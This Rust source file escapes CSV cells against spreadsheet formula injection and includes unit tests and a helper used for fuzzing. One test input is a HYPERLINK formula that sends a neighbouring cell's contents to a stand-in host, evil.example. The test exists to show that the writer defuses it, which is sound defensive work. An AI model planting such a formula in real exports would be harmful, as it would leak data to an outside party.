//! CSV cells that a spreadsheet shows as text, whatever they hold. Exports are
//! opened in Excel, LibreOffice and Google Sheets by the people who investigate,
//! and many fields of an event are chosen by whoever caused it (a request id, an
//! object id, an event name): a cell that starts like a formula would run as one
//! there (OWASP, "CSV Injection"). So every cell is written by [`write_cell`],
//! which defuses such a cell for every column, not only the ones known to be
//! attacker-controlled today. `std` only, so that the fuzz target (`fuzz/edge`)
//! compiles this very file.

/// The first characters that make a spreadsheet read a cell as a formula (or, for
/// tab and carriage return, that some of them skip before looking for one).
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Appends `cell` to `out` as one RFC 4180 field. A cell starting with one of
/// [`FORMULA_TRIGGERS`] is prefixed with `'`, which spreadsheets take as "this is
/// text" and do not display, and quoted; a cell holding a comma, a quote or a
/// line break is quoted with its quotes doubled.
pub fn write_cell(cell: &str, out: &mut Vec<u8>) {
    let formula = cell.starts_with(FORMULA_TRIGGERS);
    if !formula && !cell.contains([',', '"', '\r', '\n']) {
        out.extend_from_slice(cell.as_bytes());
        return;
    }
    out.push(b'"');
    if formula {
        out.push(b'\'');
    }
    for part in cell.split_inclusive('"') {
        out.extend_from_slice(part.as_bytes());
        if part.ends_with('"') {
            out.push(b'"');
        }
    }
    out.push(b'"');
}

/// Appends one CSV row of `cells` (each through [`write_cell`]) and its CRLF.
pub fn write_row<'a>(cells: impl IntoIterator<Item = &'a str>, out: &mut Vec<u8>) {
    for (n, cell) in cells.into_iter().enumerate() {
        if n > 0 {
            out.push(b',');
        }
        write_cell(cell, out);
    }
    out.extend_from_slice(b"\r\n");
}

/// The content of one field `write_cell` wrote, as a spreadsheet parses it: the
/// quotes undone, the defusing `'` still there. `None` when `field` is not one
/// well-formed field. For tests and fuzzing of the writer, not a general CSV
/// parser.
pub fn unquote(field: &str) -> Option<String> {
    let Some(inner) = field.strip_prefix('"') else {
        let plain = !field.contains([',', '"', '\r', '\n']);
        return plain.then(|| field.to_owned());
    };
    let inner = inner.strip_suffix('"')?;
    let mut text = String::with_capacity(inner.len());
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        // Inside a quoted field a quote only ever comes doubled.
        if c == '"' && chars.next() != Some('"') {
            return None;
        }
        text.push(c);
    }
    Some(text)
}

/// Whether `text` is what [`write_cell`] must produce for `cell`: the cell as it
/// was, or behind a `'` when it starts like a formula, and never a field that
/// starts like one. The property the fuzz target checks.
pub fn is_safe_encoding_of(cell: &str, field: &str) -> bool {
    match unquote(field) {
        Some(text) if cell.starts_with(FORMULA_TRIGGERS) => text.strip_prefix('\'') == Some(cell),
        Some(text) => text == cell,
        None => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cell(text: &str) -> String {
        let mut out = Vec::new();
        write_cell(text, &mut out);
        String::from_utf8(out).unwrap_or_default()
    }

    #[test]
    fn cells_are_quoted_only_when_they_must_be() {
        assert_eq!(cell("plain"), "plain");
        assert_eq!(cell("a,b"), "\"a,b\"");
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(cell("two\nlines"), "\"two\nlines\"");
        assert_eq!(cell(""), "");
    }

    #[test]
    fn a_cell_that_starts_like_a_formula_is_text() {
        assert_eq!(cell("=1+1"), "\"'=1+1\"");
        assert_eq!(cell("+1"), "\"'+1\"");
        assert_eq!(cell("-5"), "\"'-5\"");
        assert_eq!(cell("@SUM(A1)"), "\"'@SUM(A1)\"");
        assert_eq!(cell("\t=1"), "\"'\t=1\"");
        assert_eq!(cell("\r=1"), "\"'\r=1\"");
        assert_eq!(
            cell("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click\"\")\""
        );
        // Only the start counts: a formula character inside is plain text.
        assert_eq!(cell("a=b"), "a=b");
    }

    #[test]
    fn what_is_written_reads_back_as_it_was_or_defused() {
        for text in [
            "", "plain", "a,b", "\"", "=1+1", "'=1,2", "-", "x\r\ny", "'", "\"=\"",
        ] {
            let written = cell(text);
            assert!(
                is_safe_encoding_of(text, &written),
                "{text:?} as {written:?}"
            );
        }
        assert!(!is_safe_encoding_of("=1", "=1"));
        assert!(!is_safe_encoding_of("a", "\"a"));
    }

    #[test]
    fn a_row_ends_with_crlf() {
        let mut out = Vec::new();
        write_row(["a", "=b", "c,d"], &mut out);
        assert_eq!(out, b"a,\"'=b\",\"c,d\"\r\n");
    }
}
